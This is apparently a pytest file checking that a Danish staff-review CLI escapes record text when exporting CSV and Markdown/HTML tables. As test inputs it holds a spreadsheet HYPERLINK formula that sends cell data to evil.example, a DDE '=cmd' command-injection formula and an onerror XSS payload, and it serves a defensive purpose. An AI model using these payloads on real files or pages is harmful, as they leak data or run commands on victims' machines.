"""`mus overdue` and `mus due` pass record text on: into spreadsheets (CSV) and into the
nightly job's summary on GitHub (the table, rendered as Markdown with HTML). A record's
formula stays text there, and its Markdown and HTML show as written."""

from __future__ import annotations

from ..conftest import ANNA, TODAY, run

RECORD = "content/people/anna-jensen/2025-03-10.md"


def _handbook(make_handbook, what: str, name: str = "Anna Jensen"):
    return make_handbook(
        {
            "content/people/anna-jensen/index.md": ANNA.replace('"Anna Jensen"', f"'{name}'"),
            RECORD: (
                "---\ndate: 2025-03-10\nagreements:\n  - id: kursus\n"
                f"    what: '{what}'\n    owner: employee\n    deadline: 2025-06-30\n---\n"
            ),
        }
    )


def test_a_formula_in_a_record_stays_text_in_the_csv_lists(make_handbook):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
    command = "=cmd|' /C calc'!A0"
    root = _handbook(make_handbook, formula.replace("'", "''"), command.replace("'", "''"))
    overdue = run(root, "overdue", "--today", TODAY.isoformat(), "--format", "csv")
    assert overdue.exit_code == 0, overdue.output
    assert overdue.output.splitlines()[1] == (
        "anna-jensen/2025-03-10/kursus,anna-jensen,'=cmd|' /C calc'!A0,2025-03-10,kursus,"
        '"\'=HYPERLINK(""https://evil.example/?""&A1,""Klik"")",employee,bo-hansen,2025-06-30,514'
    )
    due = run(root, "due", "--today", TODAY.isoformat(), "--format", "csv")
    assert due.exit_code == 0, due.output
    assert due.output.splitlines()[1] == "anna-jensen,'=cmd|' /C calc'!A0,2025-03-10,2026-03-10,261"


def test_markdown_and_html_in_a_record_show_as_text_in_the_table(make_handbook):
    what = "![x](https://evil.example/a.png) <img src=x onerror=alert(1)> [Klik](https://evil.example) *fed* _kursiv_ `kode` a|b \\ & ~streg~"
    root = _handbook(make_handbook, what, "Anna <b>Jensen</b>")
    result = run(root, "overdue", "--today", TODAY.isoformat())
    assert result.exit_code == 0, result.output
    escaped = (
        r"\!\[x\](https://evil.example/a.png) &lt;img src=x onerror=alert(1)&gt; "
        r"\[Klik\](https://evil.example) \*fed\* \_kursiv\_ \`kode\` a\|b \\ &amp; \~streg\~"
    )
    name = "Anna &lt;b&gt;Jensen&lt;/b&gt;"
    ref = "anna-jensen/2025-03-10/kursus"
    width = len(escaped)
    assert result.output.splitlines() == [
        f"| deadline   | days_overdue | {'name'.ljust(len(name))} | {'what'.ljust(width)} | owner    | manager   | {'ref'.ljust(len(ref))} |",
        f"|------------|--------------|-{'-' * len(name)}-|-{'-' * width}-|----------|-----------|-{'-' * len(ref)}-|",
        f"| 2025-06-30 | 514          | {name} | {escaped} | employee | bo-hansen | {ref} |",
    ]


def test_plain_values_read_the_same_in_the_table(make_handbook):
    root = _handbook(make_handbook, "Tager kurset i avanceret Excel (modul 2), 3.5 dage")
    result = run(root, "due", "--today", TODAY.isoformat())
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [
        "| name        | last_mus   | next_mus   | days_overdue |",
        "|-------------|------------|------------|--------------|",
        "| Anna Jensen | 2025-03-10 | 2026-03-10 | 261          |",
        "| Bo Hansen   |            |            |              |",
    ]
    overdue = run(root, "overdue", "--today", TODAY.isoformat()).output.splitlines()
    assert overdue[2] == (
        "| 2025-06-30 | 514          | Anna Jensen | Tager kurset i avanceret Excel (modul 2), 3.5 dage "
        "| employee | bo-hansen | anna-jensen/2025-03-10/kursus |"
    )
